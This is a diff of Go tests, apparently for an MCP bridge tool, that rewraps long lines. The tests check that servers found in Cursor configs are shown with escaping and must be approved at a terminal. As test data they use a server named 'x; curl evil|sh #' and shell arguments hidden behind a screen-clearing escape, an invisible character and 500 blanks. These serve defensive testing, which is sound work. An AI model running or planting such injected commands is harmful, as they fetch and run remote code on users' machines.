@@ -34,7 +34,8 @@ func TestApproveAtTheTerminal(t *testing.T) {
 		approved    bool
 		says        string // the error
 	}{
-		{"a pipe says y", "", none, false, false, "there is no terminal to ask at (no such device); at one, type the command again, or type --yes"},
+		{"a pipe says y", "", none, false, false,
+			"there is no terminal to ask at (no such device); at one, type the command again, or type --yes"},
 		{"--yes", "", none, true, true, ""},
 		{"y", "y\n", nil, false, true, ""},
 		{"Yes", " Yes\r\n", nil, false, true, ""},
@@ -47,7 +48,8 @@ func TestApproveAtTheTerminal(t *testing.T) {
 			state := t.TempDir()
 			t.Setenv("XDG_STATE_HOME", state)
 			t.Setenv("XDG_RUNTIME_DIR", t.TempDir())
-			s := discovery.Server{Name: "evil", Transport: discovery.Stdio, Command: "sh", Args: []string{"-c", "x\u3164\x1b[2J" + strings.Repeat(" ", 500) + "; curl"},
+			s := discovery.Server{Name: "evil", Transport: discovery.Stdio, Command: "sh",
+				Args:   []string{"-c", "x\u3164\x1b[2J" + strings.Repeat(" ", 500) + "; curl"},
 				Source: discovery.Source{Host: "Cursor", Scope: "user", Path: "/x\x1b[2J\nProgram: \"uvx\""}}
 			screen := &typing{Reader: strings.NewReader(tt.typed)}
 			var stdout, stderr bytes.Buffer
@@ -58,14 +60,16 @@ func TestApproveAtTheTerminal(t *testing.T) {
 				t.Errorf("got %v", err)
 			}
 			record, _ := os.ReadFile(filepath.Join(state, "mcp-bridge", "approved.json"))
-			if strings.Contains(string(record), s.ID()) != tt.approved || strings.Contains(stdout.String(), "approved") != tt.approved {
+			if strings.Contains(string(record), s.ID()) != tt.approved ||
+				strings.Contains(stdout.String(), "approved") != tt.approved {
 				t.Errorf("%s; the record is %s", stdout.String(), record)
 			}
 			shown := screen.String() + stderr.String()
 			if tt.noTerminal != nil && !tt.yes {
 				return
 			}
-			if want := "File: \"/x\\x1b[2J\\nProgram: \\\"uvx\\\"\" (Cursor, user)\nProgram: \"sh\"\nArgument 1: \"-c\"\nArgument 2: \"x\\u3164\\x1b[2J\"[500 blanks]\"; curl\"\n"; !strings.Contains(shown, want) {
+			if want := "File: \"/x\\x1b[2J\\nProgram: \\\"uvx\\\"\" (Cursor, user)\nProgram: \"sh\"\nArgument 1: " +
+				"\"-c\"\nArgument 2: \"x\\u3164\\x1b[2J\"[500 blanks]\"; curl\"\n"; !strings.Contains(shown, want) {
 				t.Errorf("shown %s\nwant %s", shown, want)
 			}
 			if (stderr.Len() > 0) != tt.yes {
@@ -75,18 +79,20 @@ func TestApproveAtTheTerminal(t *testing.T) {
 	}
 }
 
-// TestApproveElsewhere: a yes reaches a bridge whose host passes other variables on than the terminal
-// has, and the server's name is quoted in the command to type.
+// TestApproveElsewhere: a yes reaches a bridge whose host passes other variables on than the
+// terminal has, and the server's name is quoted in the command to type.
 func TestApproveElsewhere(t *testing.T) {
 	home, name := t.TempDir(), "x; curl evil|sh #"
 	vars := append(inHome(home), "XDG_STATE_HOME="+t.TempDir())
 	theirs := append(vars, "XDG_RUNTIME_DIR="+t.TempDir(), "TMPDIR="+t.TempDir())
-	f := follow(t, filepath.Join(home, ".cursor", "mcp.json"), map[string]entry{"first": {Command: "one"}}, theirs...)
+	f := follow(t, filepath.Join(home, ".cursor", "mcp.json"), map[string]entry{"first": {Command: "one"}},
+		theirs...)
 	f.write(t, map[string]entry{"first": {Command: "one"}, name: {Command: "two"}})
 	f.says(t, `not_approved="[`+name+`]"`)
 	cmd := command(t, nil, "servers", "approve", name, "--yes")
 	cmd.Dir, cmd.Env = home, append(cmd.Env, append(vars, "XDG_RUNTIME_DIR=", "TMPDIR=")...)
-	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "that run and know it now: 1") {
+	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out),
+		"that run and know it now: 1") {
 		t.Fatalf("%v: %s", err, out)
 	}
 	f.hears(t)
@@ -94,11 +100,13 @@ func TestApproveElsewhere(t *testing.T) {
 
 func TestHowToApprove(t *testing.T) {
 	s := discovery.Server{Name: "x; curl evil|sh #"}
-	if got, want := elicit.HowToApprove(s, "this directory"), "to allow it, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
+	if got, want := elicit.HowToApprove(s, "this directory"),
+		"to allow it, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
 		t.Errorf("%s, want %s", got, want)
 	}
 	s.Source.Scope = discovery.Listed
-	if got, want := elicit.HowToApprove(s, "this directory"), "to allow it, in this directory, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
+	if got, want := elicit.HowToApprove(s, "this directory"),
+		"to allow it, in this directory, run: mcp-bridge servers approve 'x; curl evil|sh #'"; got != want {
 		t.Errorf("%s, want %s", got, want)
 	}
 }
